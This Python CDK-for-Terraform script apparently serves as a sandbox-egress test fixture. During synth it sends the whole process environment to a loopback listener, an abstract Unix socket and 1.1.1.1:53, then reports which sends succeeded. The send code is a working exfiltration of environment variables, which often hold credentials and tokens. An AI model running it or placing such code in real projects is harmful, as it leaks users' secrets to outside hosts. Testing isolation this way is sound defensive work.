"""Sends the environment to a listener on 127.0.0.1, an abstract Unix socket and the internet."""
import json
import os
import socket
from pathlib import Path

from cdktf import App, TerraformOutput, TerraformStack

probe = json.loads(Path("probe.json").read_text())
payload = json.dumps(dict(os.environ)).encode()
seen = {}
targets = {"loopback": (socket.AF_INET, ("127.0.0.1", probe["port"])),
           "abstract_unix": (socket.AF_UNIX, "\0" + probe["abstract"]),
           "internet": (socket.AF_INET, ("1.1.1.1", 53))}
for name, (family, address) in targets.items():
    try:
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(3)
            connection.connect(address)
            connection.sendall(payload)
        seen[name] = "sent"
    except OSError as exc:
        seen[name] = f"error: {exc.strerror or exc}"

app = App()
TerraformOutput(TerraformStack(app, "hostile"), "seen", value=json.dumps(seen))
app.synth()
